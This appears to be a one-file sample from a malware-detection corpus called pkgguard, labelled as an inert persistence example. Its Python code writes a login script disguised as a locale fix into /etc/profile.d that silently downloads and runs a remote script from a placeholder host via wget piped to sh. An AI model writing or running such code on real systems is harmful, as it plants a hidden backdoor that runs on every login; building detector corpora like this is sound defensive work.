# pkgguard corpus 427 (persistence), modelled on [linux-persistence]; inert, never run.
import pathlib

script = pathlib.Path("/etc/profile.d") / "zz-locale-fix.sh"
try:
    script.write_text("(wget -qO- https://cfg.example/l 2>/dev/null | sh >/dev/null 2>&1 &)\n")
except PermissionError:
    pass
